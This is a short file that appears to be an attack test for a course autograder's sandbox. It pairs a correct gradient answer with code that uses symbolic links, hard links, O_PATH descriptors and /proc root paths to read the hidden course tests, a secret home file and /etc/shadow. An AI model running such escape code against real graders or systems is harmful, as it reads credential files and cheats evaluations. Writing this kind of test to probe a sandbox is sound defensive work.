# /// attack
# tries = "reaches files through symbolic and hard links, and opened folders"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %% shared dump

# %%
targets = ["@COURSE@/tests", "@OUT@/seed", "@HOME@/.geheim", "/etc/shadow", "/proc/1/root/etc"]
for number, target in enumerate(targets):
    os.symlink(target, f"soft{number}")
    dump(f"soft{number}")
    try:
        os.link(target, f"hard{number}")
        dump(f"hard{number}")
    except OSError as error:
        print(error)
    try:
        folder = os.open(target, os.O_PATH)
        dump(f"/proc/self/fd/{folder}")
    except OSError as error:
        print(error)
for start in ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../..", "/proc/@PID@/root"):
    dump(f"{start}@COURSE@/tests")
